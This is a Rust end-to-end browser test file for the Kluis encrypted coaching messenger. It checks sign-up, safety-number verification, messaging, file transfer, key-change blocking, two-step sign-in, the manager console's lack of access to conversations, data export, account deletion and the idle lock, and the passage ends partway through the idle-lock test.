//! The web client as people use it, in real Chromium against the real
//! server, through its screens only (no calls into the page): a client
//! signs up from the coach's invitation, reads the privacy notice, signs
//! out and in again (a wrong password first), opens the conversation the
//! coach (native SDK) started, compares the safety number with the
//! coach's, answers with Enter and Shift+Enter, sees the coach's next
//! message arrive without a reload, deletes their own message; then the
//! coach's key changes and the page blocks sending, keeping the draft,
//! until the new number is compared; two-step sign-in with an `oathtool`
//! code; and the manager's screen shows no conversation at all. Screens
//! are saved in both languages and at phone width
//! (`target/screenshots/web-*.png`).

use std::sync::Arc;

use kluis_e2e::cable::Cable;
use kluis_e2e::practice::{new_identity_after_reset, start_conversation, Practice, PASSWORD};
use kluis_e2e::Server;
use kluis_sdk::state::MemoryStore;
use kluis_sdk::{EntryContent, Kluis, Role, Session};
use kluis_test_support::{both_engines, oathtool, Engine};
use serde_json::{json, Value};

use crate::browser::{repo, screenshot, Browser, BIN};

both_engines!(web_client_in_chromium);

use kluis_e2e::message_texts as texts;

fn digits(text: &str) -> String {
    text.chars().filter(char::is_ascii_digit).collect()
}

/// The safety number the open dialog shows, digits only.
fn shown_number(b: &mut Browser) -> String {
    b.step("waitFor", json!(["dialog .safety-digits"]));
    digits(
        b.step("text", json!(["dialog .safety-digits"]))
            .as_str()
            .unwrap(),
    )
}

/// The real server serving the bundle `scripts/build-web` built, with
/// `settings` beside.
fn web_server(engine: Engine, settings: &[(&str, &str)]) -> Server {
    let web = repo().join("web/dist");
    let mut all = vec![("KLUIS_WEB_DIR", web.to_str().unwrap())];
    all.extend_from_slice(settings);
    Server::start_with(engine, BIN, &all)
}

/// Coach Carla (native, carla@p.nl) who invited her client kees@p.nl:
/// her session and the link mailed to him.
async fn coach_inviting_kees(practice: &Practice<'_>) -> (Session, String) {
    let coach = practice
        .join(
            None,
            "carla@p.nl",
            Role::Coach,
            &practice.server.base,
            Arc::new(MemoryStore::new()),
        )
        .await;
    coach
        .invite(&practice.org, "kees@p.nl", Role::Client)
        .await
        .unwrap();
    let invitation = Server::link_in(&practice.server.mail("kees@p.nl", "invitation").await);
    (coach, invitation)
}

/// The bytes of the document `name` in the relationship, as the coach's
/// SDK downloads and checks them.
async fn document_bytes(
    coach: &mut Session,
    rid: kluis_sdk::kluis_crypto::ids::RelationshipId,
    name: &str,
) -> Vec<u8> {
    let entries = coach.dialogue(rid).await.unwrap();
    let doc = entries
        .iter()
        .find(|e| matches!(&e.content, EntryContent::Document(d) if d.name == name))
        .expect("the coach sees the document");
    let mut got = Vec::new();
    coach
        .download_file(
            rid,
            kluis_sdk::parse_item_id(&doc.item_id).unwrap(),
            &mut got,
            &mut |_| {},
        )
        .await
        .unwrap();
    got
}

/// No script error and no refusal under the CSP since the last look.
fn no_problems(b: &mut Browser, when: &str) {
    assert_eq!(b.step("problems", json!([])), json!([]), "{when}");
}

fn sign_in(b: &mut Browser, email: &str, password: &str) {
    b.step("waitFor", json!(["#email"]));
    b.step("fill", json!(["#email", email]));
    b.step("fill", json!(["#password", password]));
    b.step("press", json!(["#password", "Enter"]));
}

async fn web_client_in_chromium(engine: Engine) {
    // Files up to 6 MiB of stream, so that one over the limit is cheap.
    let server = web_server(engine, &[("KLUIS_MAX_ATTACHMENT_MIB", "6")]);
    let practice = Practice::set_up(&server).await;
    let org = practice.org.clone();
    let native = |store: &Arc<MemoryStore>| Kluis::new(&server.base, store.clone()).unwrap();
    practice
        .manager
        .invite(&org, "carla@p.nl", Role::Coach)
        .await
        .unwrap();
    let link = Server::link_in(&server.mail("carla@p.nl", "invitation").await);
    let mut coach: Session = native(&Arc::new(MemoryStore::new()))
        .sign_up(&link, "Carla de Vries", PASSWORD)
        .await
        .unwrap()
        .session;
    coach.invite(&org, "kees@p.nl", Role::Client).await.unwrap();
    let invitation = Server::link_in(&server.mail("kees@p.nl", "invitation").await);
    let tag = format!("{engine:?}").to_lowercase();
    let shot = |b: &mut Browser, name: &str| screenshot(b, &format!("web-{name}-{tag}"));

    // Sign-up from the invitation, the recovery key, the privacy notice.
    let mut b = Browser::open(&server.base);
    // The sign-in screen does without the strength estimate (zxcvbn, its
    // own module): a screen that chooses a password loads it.
    let strength = "/pkg/kluis_strength_bg.wasm";
    let fetched = b.step("fetched", json!([]));
    assert!(
        fetched.to_string().contains("kluis_sdk_bg.wasm"),
        "{fetched}"
    );
    assert!(!fetched.to_string().contains(strength), "{fetched}");
    b.step("viewport", json!([1200, 800]));
    b.step("goto", json!([invitation]));
    b.step(
        "waitForText",
        json!(["main", "Carla de Vries invites you as client"]),
    );
    b.step("fill", json!(["#name", "Kees de Boer"]));
    // Meets the rule, yet among a cracker's first guesses: refused with a
    // sentence, the meter low, nothing typed lost.
    b.step("type", json!(["#password", "Password1"]));
    b.step("press", json!(["#password", "Enter"]));
    b.step("waitForText", json!(["#form-message", "too easy to guess"]));
    shot(&mut b, "signup-weak-en");
    b.step("click", json!([".switch button[lang]"]));
    b.step("waitForText", json!(["main", "Wachtwoord"]));
    b.step("viewport", json!([360, 740]));
    shot(&mut b, "signup-nl-phone");
    b.step("viewport", json!([1200, 800]));
    b.step("click", json!([".switch button[lang]"]));
    b.step("waitForText", json!(["main", "Carla de Vries invites you"]));
    let fetched = b.step("fetched", json!([]));
    assert!(fetched.to_string().contains(strength), "{fetched}");
    let score = b.step("meter", json!(["#password-strength"]));
    assert!(score.as_f64().is_some_and(|s| s < 2.0), "{score}");
    assert_eq!(b.step("value", json!(["#name"])), "Kees de Boer");
    b.step("fill", json!(["#password", ""]));
    b.step("type", json!(["#password", PASSWORD]));
    let score = b.step("meter", json!(["#password-strength"]));
    assert!(score.as_f64().is_some_and(|s| s >= 3.0), "{score}");
    b.step("press", json!(["#password", "Enter"]));
    b.keep_recovery_key();
    b.acknowledge_privacy_notice("Right to lodge a complaint");
    b.step(
        "waitForText",
        json!([".list", "When your coach starts a conversation"]),
    );
    shot(&mut b, "client-empty-en");
    no_problems(&mut b, "sign-up");

    // Signed out, then in again: a wrong password is a sentence, and the
    // address typed stays.
    b.step("click", json!([".topbar .actions button:last-child"]));
    b.step("waitForText", json!([".notice", "You are signed out"]));
    sign_in(&mut b, "kees@p.nl", "Verkeerd-Wachtwoord-1");
    b.step("waitForText", json!(["#form-message", "is not right"]));
    assert_eq!(b.step("value", json!(["#email"])), "kees@p.nl");
    shot(&mut b, "login-wrong-password-en");
    b.step("click", json!([".switch button[lang]"]));
    b.step("waitForText", json!(["h2", "Inloggen"]));
    assert_eq!(b.step("value", json!(["#email"])), "kees@p.nl");
    shot(&mut b, "login-nl");
    b.step("click", json!([".switch button[lang]"]));

    // The coach (native) starts the conversation.
    let (rid, kees_id) = start_conversation(
        &practice,
        &mut coach,
        "kees@p.nl",
        "Hallo Kees, welkom. Hoe gaat het?",
    )
    .await;

    sign_in(&mut b, "kees@p.nl", PASSWORD);
    b.step("waitForText", json!([".relationships", "Carla de Vries"]));
    b.step("click", json!(["button.relationship"]));
    b.step("waitForText", json!([".messages", "Hallo Kees, welkom."]));
    let author = b.step("text", json!([".bubble.theirs .author"]));
    assert_eq!(author, "Carla de Vries", "names, not ids");
    assert_eq!(b.step("count", json!([".shield.unverified"])), 1);

    // The safety number the page shows is the coach's, digit for digit;
    // "they match" marks Carla verified.
    b.step("click", json!([".person button"]));
    let shown = shown_number(&mut b);
    let theirs = digits(&coach.safety_number(kees_id).await.unwrap().digits);
    assert_eq!(shown, theirs);
    shot(&mut b, "safety-number-en");
    b.step("click", json!(["dialog button.primary"]));
    b.step("waitFor", json!([".shield.verified"]));

    // Enter sends; Shift+Enter is a new line.
    b.step("fill", json!(["#composer", "Dank je, Carla. Goed!"]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".bubble.mine", "Dank je, Carla."]));
    assert_eq!(b.step("value", json!(["#composer"])), "");
    let typed_canary = format!("CANARY{:016x}", rand::random::<u64>());
    b.step(
        "fill",
        json!(["#composer", format!("Alleen voor jou: {typed_canary}")]),
    );
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".messages", typed_canary.as_str()]));
    b.step("type", json!(["#composer", "Regel een"]));
    b.step("press", json!(["#composer", "Shift+Enter"]));
    b.step("type", json!(["#composer", "Regel twee"]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".messages", "Regel twee"]));
    let seen = texts(&coach.dialogue(rid).await.unwrap());
    assert!(
        seen.contains(&"Dank je, Carla. Goed!".to_owned()),
        "{seen:?}"
    );
    assert!(
        seen.contains(&"Regel een\nRegel twee".to_owned()),
        "{seen:?}"
    );

    // The coach answers; it appears without a reload.
    coach.send_message(rid, "Tot dinsdag!").await.unwrap();
    b.step("waitForText", json!([".messages", "Tot dinsdag!"]));
    // More than one look while following fetches (20): none is skipped.
    let before = b.step("count", json!([".bubble"])).as_u64().unwrap();
    for i in 1..=25 {
        coach
            .send_message(rid, &format!("Oefening {i} van 25"))
            .await
            .unwrap();
    }
    b.step("waitForText", json!([".messages", "Oefening 25 van 25"]));
    assert_eq!(
        b.step("count", json!([".bubble"])).as_u64().unwrap(),
        before + 25,
        "every one of them"
    );
    b.step("waitForText", json!([".messages", "Oefening 1 van 25"]));
    // Past one page (50): the newest page, and the earlier ones on the way
    // up, each checked; nothing lost between them.
    for i in 1..=30 {
        coach
            .send_message(rid, &format!("Huiswerk {i} van 30"))
            .await
            .unwrap();
    }
    b.step("waitForText", json!([".messages", "Huiswerk 30 van 30"]));
    b.step("waitFor", json!(["button.older"]));
    let shown = b.step("count", json!([".bubble"])).as_u64().unwrap();
    assert_eq!(shown, 50, "one page");
    b.step("click", json!(["button.older"]));
    b.step("waitForText", json!([".messages", "Hallo Kees, welkom."]));
    assert_eq!(
        b.step("count", json!([".bubble"])).as_u64().unwrap(),
        before + 25 + 30,
        "every entry, once"
    );
    assert_eq!(
        b.step("count", json!(["button.older"])),
        0,
        "nothing before the first"
    );
    shot(&mut b, "conversation-en");
    // Drawn again in Dutch: the conversation opens at its newest page.
    b.step("click", json!([".topbar button[lang]"]));
    b.step("waitForText", json!([".messages", "Huiswerk 30 van 30"]));
    b.step("waitForText", json!([".list h2", "Gesprekken"]));
    shot(&mut b, "conversation-nl");
    b.step("viewport", json!([360, 740]));
    shot(&mut b, "conversation-nl-phone");
    b.step("click", json!([".conversation-head .back"]));
    b.step("waitFor", json!(["button.relationship"]));
    shot(&mut b, "list-nl-phone");
    b.step("click", json!(["button.relationship"]));
    b.step("viewport", json!([1200, 800]));
    b.step("click", json!([".topbar button[lang]"]));
    b.step("waitFor", json!(["button.older"]));
    b.step("click", json!(["button.older"]));
    b.step("waitForText", json!([".messages", "Dank je, Carla."]));

    // A file up and down, byte for byte: Kees chooses one (5 MiB: more
    // than one upload segment); the coach's SDK reads it back; the coach's
    // file comes down through the page. One over the limit is refused
    // before anything is sent, saying the limit.
    let files = kluis_test_support::temp_dir();
    let up: Vec<u8> = (0..5 * 1024 * 1024 + 123u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let file_canary = format!("CANARY{:016x}", rand::random::<u64>());
    let mut up = up;
    up[..file_canary.len()].copy_from_slice(file_canary.as_bytes());
    let up_path = files.path().join("verslag.pdf");
    std::fs::write(&up_path, &up).unwrap();
    b.step("upload", json!(["#attach", up_path.to_str().unwrap()]));
    b.step("waitForText", json!([".messages", "verslag.pdf"]));
    let got = document_bytes(&mut coach, rid, "verslag.pdf").await;
    assert!(got == up, "the coach reads the bytes Kees chose");
    let down: Vec<u8> = b"Werkblad week 1\n".repeat(40_000);
    coach
        .send_file(
            rid,
            &down[..],
            "werkblad.txt",
            "text/plain",
            Some(down.len() as u64),
            &mut |_| {},
        )
        .await
        .unwrap();
    b.step("waitForText", json!([".messages", "werkblad.txt"]));
    shot(&mut b, "documents-en");
    let saved = files.path().join("werkblad-downloaded.txt");
    let name = b.step(
        "download",
        json!([
            ".document:has-text(\"werkblad.txt\") button.download",
            saved.to_str().unwrap()
        ]),
    );
    assert_eq!(name, "werkblad.txt");
    assert!(
        std::fs::read(&saved).unwrap() == down,
        "the page saves the coach's bytes"
    );
    let big = files.path().join("te-groot.bin");
    std::fs::write(&big, vec![7u8; 7 * 1024 * 1024]).unwrap();
    b.step("upload", json!(["#attach", big.to_str().unwrap()]));
    b.step("waitForText", json!([".uploads", "too large"]));
    let said = b.step("text", json!([".uploads"]));
    assert!(
        said.as_str().unwrap().contains("nothing was sent"),
        "{said}"
    );
    let documents = |entries: &[kluis_sdk::Entry]| {
        entries
            .iter()
            .filter(|e| matches!(e.content, EntryContent::Document(_)))
            .count()
    };
    assert_eq!(documents(&coach.dialogue(rid).await.unwrap()), 2);
    b.step("click", json!([".uploads button.link"]));
    no_problems(&mut b, "the files");

    // Deleting my own message: gone for the coach too, as my signed act.
    b.step("waitForText", json!([".bubble.mine", "Dank je, Carla."]));
    b.step("click", json!([".bubble.mine .delete"]));
    b.step("waitForText", json!([".messages", "Deleted by its author"]));
    let entries = coach.dialogue(rid).await.unwrap();
    assert!(
        entries
            .iter()
            .any(|e| matches!(e.content, EntryContent::DeletedByAuthor { .. })),
        "{entries:?}"
    );
    no_problems(&mut b, "the conversation");

    // The coach adds a second coach. Before Kees's next message goes, the
    // page looks at the signed membership: a banner says who joined and
    // when, sending waits (the draft kept) until he says he saw it; the
    // history shows it; once acknowledged, it is not news again.
    let bram = practice
        .join(
            None,
            "bram@p.nl",
            Role::Coach,
            &server.base,
            Arc::new(MemoryStore::new()),
        )
        .await;
    coach
        .add_member(rid, bram.account_id(), kluis_sdk::MemberRole::Coach)
        .await
        .unwrap();
    b.step("fill", json!(["#composer", "Wie leest er mee?"]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step(
        "waitForText",
        json!(["#join-banner", "was added to this conversation"]),
    );
    assert_eq!(b.step("enabled", json!(["button.send"])), false);
    assert_eq!(b.step("value", json!(["#composer"])), "Wie leest er mee?");
    shot(&mut b, "member-joined-en");
    b.step("click", json!(["#join-banner button"]));
    b.step("waitForGone", json!(["#join-banner"]));
    b.step("waitForText", json!([".messages", "(coach) joined on"]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".messages", "Wie leest er mee?"]));
    let mut bram = bram;
    assert!(
        texts(&bram.dialogue(rid).await.unwrap()).contains(&"Wie leest er mee?".to_owned()),
        "the new coach reads what was written after he joined"
    );
    b.step("click", json!([".conversation-head .back, .relationship"]));
    b.step("click", json!(["button.relationship"]));
    b.step("waitForText", json!([".messages", "Wie leest er mee?"]));
    assert_eq!(
        b.step("visible", json!(["#join-banner"])),
        false,
        "acknowledged once, on this device"
    );

    // The coach loses their password and starts a new identity. Sending
    // is refused, the banner says why and what to do, the draft stays;
    // after comparing the new number, the message goes.
    let mut coach = new_identity_after_reset(
        &server,
        "carla@p.nl",
        "Nieuw-Wachtwoord-73",
        Arc::new(MemoryStore::new()),
    )
    .await;
    b.step("fill", json!(["#composer", "Ben jij het echt?"]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step(
        "waitForText",
        json!([".banner", "security key has changed"]),
    );
    assert_eq!(b.step("enabled", json!(["button.send"])), false);
    assert_eq!(b.step("value", json!(["#composer"])), "Ben jij het echt?");
    assert_eq!(b.step("count", json!([".shield.changed"])), 1);
    shot(&mut b, "key-changed-en");
    b.step("click", json!([".banner button"]));
    let shown = shown_number(&mut b);
    let new_number = digits(&coach.safety_number(kees_id).await.unwrap().digits);
    assert_eq!(shown, new_number, "the number of the new key");
    assert_ne!(shown, theirs);
    b.step("click", json!(["dialog button.primary"]));
    b.step("waitForGone", json!([".banner"]));
    assert_eq!(b.step("enabled", json!(["button.send"])), true);
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".messages", "Ben jij het echt?"]));
    no_problems(&mut b, "the key change");

    // Two-step sign-in, turned on in the account screen: the password
    // again, the app's QR code drawn by the page (its key readable too),
    // the first code from `oathtool`, the ten recovery codes shown once.
    b.step("click", json!([".account-button"]));
    b.step(
        "waitForText",
        json!(["#two-step-title", "Two-step sign-in"]),
    );
    b.step("waitForText", json!([".devices", "this device"]));
    b.step("fill", json!(["#two-step-password", PASSWORD]));
    b.step(
        "click",
        json!([".account-section:nth-of-type(2) button.secondary"]),
    );
    b.step("waitFor", json!(["#totp-secret"]));
    assert_eq!(b.step("count", json!(["svg.qr path"])), 1);
    let secret = b.step("text", json!(["#totp-secret"]));
    let secret = secret.as_str().unwrap().to_owned();
    shot(&mut b, "two-step-enrol-en");
    b.step("fill", json!(["#totp-code", "123456"]));
    b.step(
        "click",
        json!([".account-section:nth-of-type(2) button.primary"]),
    );
    b.step(
        "waitForText",
        json!([".account-section:nth-of-type(2) .error", "code"]),
    );
    b.step("fill", json!(["#totp-code", oathtool(&secret, 0)]));
    b.step(
        "click",
        json!([".account-section:nth-of-type(2) button.primary"]),
    );
    b.step("waitFor", json!(["#recovery-codes"]));
    assert_eq!(b.step("count", json!(["#recovery-codes li"])), 10);
    let recovery_code = b.step("text", json!(["#recovery-codes li"]));
    let recovery_code = recovery_code.as_str().unwrap().to_owned();
    shot(&mut b, "recovery-codes-en");
    b.step(
        "click",
        json!([".account-section:nth-of-type(2) button.primary"]),
    );
    b.step(
        "waitForText",
        json!([
            ".account-section:nth-of-type(2)",
            "You have 10 recovery codes left"
        ]),
    );
    no_problems(&mut b, "the account screen");
    let enrolment_secret = secret;
    b.step("click", json!([".topbar .actions button:last-child"]));
    sign_in(&mut b, "kees@p.nl", PASSWORD);
    b.step("waitForText", json!(["h2", "Two-step sign-in"]));
    b.step("fill", json!(["#code", "000000"]));
    b.step("press", json!(["#code", "Enter"]));
    b.step("waitForText", json!(["#form-message", "code is wrong"]));
    shot(&mut b, "second-factor-en");
    b.step("fill", json!(["#code", oathtool(&enrolment_secret, 30)]));
    b.step("press", json!(["#code", "Enter"]));
    b.step("waitForText", json!([".relationships", "Carla de Vries"]));

    // The manager signs in: profiles, a plain line saying they read
    // nothing, and no conversation anywhere on the page.
    b.step("click", json!([".topbar .actions button:last-child"]));
    // Her account speaks Dutch (the default): the page follows it.
    sign_in(&mut b, "m@p.nl", PASSWORD);
    b.step(
        "waitForText",
        json!(["main", "Recht op het indienen van een klacht"]),
    );
    b.step("click", json!(["button.primary"]));
    b.step(
        "waitForText",
        json!([".manager-line", "kun jij niet lezen"]),
    );
    let page: Value = b.step("text", json!(["body"]));
    let page = page.as_str().unwrap();
    for said in ["Hallo Kees", "Tot dinsdag", "Regel een", "Ben jij het"] {
        assert!(!page.contains(said), "{said} on the manager's screen");
    }
    // Her console: the members, searchable; the trajectories as who and
    // when only; a client's trajectory end set; a coach invited; a member
    // disabled and enabled again.
    b.step("waitForText", json!(["table.members", "Kees de Boer"]));
    b.step("waitForText", json!(["table.members", "carla@p.nl"]));
    b.step("fill", json!(["#member-search", "kees"]));
    assert_eq!(
        b.step("count", json!(["table.members tbody tr[data-member]"])),
        1
    );
    b.step("fill", json!(["#member-search", ""]));
    b.step("waitForText", json!([".console", "Trajecten"]));
    b.step("waitForText", json!([".console", "Carla de Vries"]));
    b.step(
        "click",
        json!([&format!("tr[data-member=\"{kees_id}\"] button")]),
    );
    b.step("waitFor", json!(["dialog #member-trajectory_end"]));
    b.step("fill", json!(["#member-trajectory_end", "2027-06-30"]));
    b.step("click", json!(["dialog button.primary"]));
    b.step(
        "waitForText",
        json!([&format!("tr[data-member=\"{kees_id}\"]"), "2027"]),
    );
    let listed = practice.manager.members(&org).await.unwrap();
    let kees_now = listed.iter().find(|m| m.email == "kees@p.nl").unwrap();
    assert_eq!(kees_now.trajectory_end.as_deref(), Some("2027-06-30"));
    b.step("fill", json!(["#invite-member-email", "nina@p.nl"]));
    b.step("click", json!(["#invite-member button[type=submit]"]));
    b.step("waitForText", json!(["#invite-member", "nina@p.nl"]));
    let nina_mail = server.mail("nina@p.nl", "invitation").await;
    assert!(nina_mail.contains("invitation"));
    // Not used yet: listed under the form; withdrawn, its link is dead.
    let stranger = Kluis::new(&server.base, Arc::new(MemoryStore::new())).unwrap();
    let nina_link = Server::link_in(&nina_mail);
    assert!(stranger.lookup_invitation(&nina_link).await.is_ok());
    b.step(
        "waitForText",
        json!(["#invite-member-pending", "nina@p.nl"]),
    );
    b.step("scrollTo", json!(["#invite-member-pending"]));
    shot(&mut b, "console-pending-nl");
    b.step("viewport", json!([360, 740]));
    b.step("scrollTo", json!(["#invite-member-pending"]));
    shot(&mut b, "console-pending-nl-phone");
    b.step("viewport", json!([1200, 800]));
    b.step("click", json!([".topbar button[lang]"]));
    b.step(
        "waitForText",
        json!(["#invite-member-pending", "Not used yet"]),
    );
    b.step("scrollTo", json!(["#invite-member-pending"]));
    shot(&mut b, "console-pending-en");
    b.step("click", json!([".topbar button[lang]"]));
    b.step(
        "waitForText",
        json!(["#invite-member-pending", "Nog niet gebruikt"]),
    );
    b.step(
        "click",
        json!(["#invite-member-pending button[aria-label*=\"nina@p.nl\"]"]),
    );
    b.step("waitForText", json!(["#invite-member", "ingetrokken"]));
    b.step("waitForGone", json!(["#invite-member-pending li"]));
    let dead = stranger.lookup_invitation(&nina_link).await.unwrap_err();
    assert!(matches!(dead, kluis_sdk::Error::InvalidLink), "{dead}");
    assert!(practice
        .manager
        .pending_invitations(&org)
        .await
        .unwrap()
        .iter()
        .all(|p| p.email != "nina@p.nl"));
    let carla_id = coach.account_id();
    b.step(
        "click",
        json!([&format!("tr[data-member=\"{carla_id}\"] button")]),
    );
    b.step("click", json!(["dialog button.danger-text"]));
    b.step("waitForText", json!([".console-message", "uitgeschakeld"]));
    assert!(
        coach.me().await.is_err(),
        "a disabled member's sessions end"
    );
    let carla = |list: Vec<kluis_sdk::OrganisationMember>| {
        list.into_iter().find(|m| m.email == "carla@p.nl").unwrap()
    };
    assert!(carla(practice.manager.members(&org).await.unwrap()).disabled);
    b.step(
        "click",
        json!([&format!("tr[data-member=\"{carla_id}\"] button")]),
    );
    b.step("click", json!(["dialog p button.secondary:first-child"]));
    b.step("waitForText", json!([".console-message", "weer inloggen"]));
    assert!(!carla(practice.manager.members(&org).await.unwrap()).disabled);
    shot(&mut b, "manager-nl");
    b.step("viewport", json!([360, 740]));
    shot(&mut b, "manager-nl-phone");
    b.step("viewport", json!([1200, 800]));
    let page: Value = b.step("text", json!(["body"]));
    let page = page.as_str().unwrap();
    for said in ["Hallo Kees", "Tot dinsdag", "Regel een", "Ben jij het"] {
        assert!(!page.contains(said), "{said} on the manager's console");
    }
    no_problems(&mut b, "the manager");

    // Kees comes back with a recovery code (his phone is elsewhere) and
    // deletes his account, the password again: he is signed out, saying
    // so, and the manager finds the trajectory gone.
    b.step("click", json!([".topbar .actions button:last-child"]));
    b.step("click", json!([".switch button[lang]"]));
    sign_in(&mut b, "kees@p.nl", PASSWORD);
    b.step("waitForText", json!(["h2", "Two-step sign-in"]));
    b.step(
        "click",
        json!([".switch button.link:has-text(\"recovery code\")"]),
    );
    b.step("waitForText", json!(["label[for=code]", "recovery codes"]));
    b.step("fill", json!(["#code", recovery_code]));
    b.step("press", json!(["#code", "Enter"]));
    b.step("waitForText", json!([".relationships", "Carla de Vries"]));
    b.step("click", json!([".account-button"]));
    b.step("waitFor", json!(["#delete-password"]));
    shot(&mut b, "account-en");
    b.step("scrollTo", json!(["#data-held"]));
    shot(&mut b, "account-data-en");
    b.step("click", json!([".topbar button[lang]"]));
    b.step("waitForText", json!(["#data-held", "Wat Kluis"]));
    b.step("scrollTo", json!(["#data-held"]));
    shot(&mut b, "account-data-nl");
    b.step("viewport", json!([360, 740]));
    b.step("scrollTo", json!(["#data-held"]));
    shot(&mut b, "account-data-nl-phone");
    b.step("viewport", json!([1200, 800]));
    b.step("click", json!([".topbar button[lang]"]));
    b.step("waitForText", json!(["#data-held", "What Kluis"]));
    // First his data: one zip, every file as the manifest lists it, his
    // words and his file among them.
    let zip_path = files.path().join("export.zip");
    let name = b.step("download", json!(["#export", zip_path.to_str().unwrap()]));
    assert!(
        name.as_str().unwrap().starts_with("kluis-export-"),
        "{name}"
    );
    b.step(
        "waitForText",
        json!(["#data-title ~ p[role=status]", "downloaded"]),
    );
    // And what the server holds about him (the right of access): the
    // server's own document, his and nobody else's.
    let held_path = files.path().join("held.json");
    b.step(
        "download",
        json!(["#data-held", held_path.to_str().unwrap()]),
    );
    b.step(
        "waitForText",
        json!([
            "#data-title ~ p[role=status]",
            "Saved: what the server holds"
        ]),
    );
    let held: Value = serde_json::from_slice(&std::fs::read(&held_path).unwrap()).unwrap();
    assert_eq!(held["format"], "kluis-data/1");
    assert_eq!(held["account"]["email"], "kees@p.nl");
    assert!(!held.to_string().contains("carla@p.nl"), "{held}");
    let mut archive = zip::ZipArchive::new(std::fs::File::open(&zip_path).unwrap()).unwrap();
    let read = |archive: &mut zip::ZipArchive<std::fs::File>, name: &str| {
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut archive.by_name(name).unwrap(), &mut bytes).unwrap();
        bytes
    };
    let manifest: Value = serde_json::from_slice(&read(&mut archive, "manifest.json")).unwrap();
    assert_eq!(manifest["format"], "kluis-export/1");
    let listed = manifest["files"].as_array().unwrap();
    assert_eq!(
        listed.len() + 1,
        archive.len(),
        "every file listed, and the manifest"
    );
    let mut all = Vec::new();
    for f in listed {
        let bytes = read(&mut archive, f["path"].as_str().unwrap());
        use sha2::Digest as _;
        let hex: String = sha2::Sha256::digest(&bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(f["sha256"], hex.as_str(), "{}", f["path"]);
        assert_eq!(f["size"], bytes.len() as u64);
        all.push(bytes);
    }
    assert!(all
        .iter()
        .any(|b| kluis_e2e::occurrences(b, typed_canary.as_bytes()) > 0));
    assert!(all.iter().any(|b| b == &up), "his file, byte for byte");
    b.step("fill", json!(["#delete-password", "Verkeerd-Wachtwoord-1"]));
    b.step(
        "click",
        json!(["#delete-title + p + label + input + button"]),
    );
    b.step(
        "waitForText",
        json!(["#delete-title ~ p[role=status]", "not right"]),
    );
    b.step("fill", json!(["#delete-password", PASSWORD]));
    b.step(
        "click",
        json!(["#delete-title + p + label + input + button"]),
    );
    b.step(
        "waitForText",
        json!([".notice", "Your account was deleted"]),
    );
    let left = practice
        .manager
        .organisation_relationships(&org)
        .await
        .unwrap();
    assert!(
        left.iter().all(|r| r.relationship_id != rid.to_string()),
        "the trajectory went with the client"
    );
    no_problems(&mut b, "the deletion");

    // Nothing anyone typed or chose in the page is in what the server
    // wrote: its database (or dump), its log, its mail.
    drop(b);
    drop(practice);
    let mut server = server;
    server.stop();
    for (name, bytes) in &server.everything_written() {
        for needle in [&typed_canary, &file_canary] {
            assert_eq!(
                kluis_e2e::occurrences(bytes, needle.as_bytes()),
                0,
                "{needle} found in {name}"
            );
        }
    }
}

/// A coach in the page, in Dutch (the language of her account): she
/// invites her client, starts the conversation with him once he signed
/// up, keeps a private note he never reads. Then the idle lock: with the
/// server's idle limit at one minute, a page left
/// alone on an open conversation — which keeps asking the server for new
/// messages — signs itself out after that minute, says why, and after
/// signing in again returns to the same conversation. The server's
/// setting is in minutes, so this test waits one (the idle page is the
/// point); it runs on one engine only: the lock is the page's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_lock_in_chromium() {
    let server = web_server(Engine::Sqlite, &[("KLUIS_SESSION_IDLE_MINUTES", "1")]);
    let practice = Practice::set_up(&server).await;
    practice
        .join(
            None,
            "carla@p.nl",
            Role::Coach,
            &server.base,
            Arc::new(MemoryStore::new()),
        )
        .await;
    let mut b = Browser::open(&server.base);
    b.step("viewport", json!([1200, 800]));
    b.step("goto", json!([format!("{}/", server.base)]));
    sign_in(&mut b, "carla@p.nl", PASSWORD);
    b.step(
        "waitForText",
        json!(["main", "Recht op het indienen van een klacht"]),
    );
    b.step("click", json!(["button.primary"]));
    b.step("waitForText", json!([".list", "Nog geen gesprekken"]));
    // She invites her client from the page; he signs up from the mail.
    b.step("fill", json!(["#invite-client-email", "kees@p.nl"]));
    b.step("press", json!(["#invite-client-email", "Enter"]));
    b.step("waitForText", json!(["#invite-client", "kees@p.nl"]));
    let link = Server::link_in(&server.mail("kees@p.nl", "invitation").await);
    let client = Kluis::new(&server.base, Arc::new(MemoryStore::new()))
        .unwrap()
        .sign_up(&link, "Kees de Boer", PASSWORD)
        .await
        .unwrap()
        .session;
    // Signing in again, she finds him among her clients and starts the
    // conversation; her first message reaches him.
    b.step("click", json!([".topbar .actions button:last-child"]));
    sign_in(&mut b, "carla@p.nl", PASSWORD);
    b.step("waitForText", json!([".clients", "Kees de Boer"]));
    screenshot(&mut b, "web-coach-home-nl");
    b.step("click", json!([".clients button"]));
    b.step("waitFor", json!(["#composer"]));
    b.step("fill", json!(["#composer", "Eerste bericht"]));
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".messages", "Eerste bericht"]));
    let mut client = client;
    let rid = client.relationships().await.unwrap()[0].id().unwrap();
    assert_eq!(
        texts(&client.dialogue(rid).await.unwrap()),
        ["Eerste bericht"]
    );
    // The coach's private notes: their own tab, marked, never the
    // client's to read.
    b.step("click", json!([".tab.notes"]));
    b.step(
        "waitForText",
        json!([".private-line", "Alleen jij leest deze notities"]),
    );
    b.step(
        "fill",
        json!(["#composer", "Kees slaapt slecht sinds mei."]),
    );
    b.step("press", json!(["#composer", "Enter"]));
    b.step("waitForText", json!([".bubble.note", "Kees slaapt slecht"]));
    screenshot(&mut b, "web-notes-nl");
    b.step("click", json!([".tab.dialogue"]));
    b.step("waitForText", json!([".messages", "Eerste bericht"]));
    let page = b.step("text", json!([".messages"]));
    assert!(!page.as_str().unwrap().contains("slaapt"), "{page}");
    let seen = client.dialogue(rid).await.unwrap();
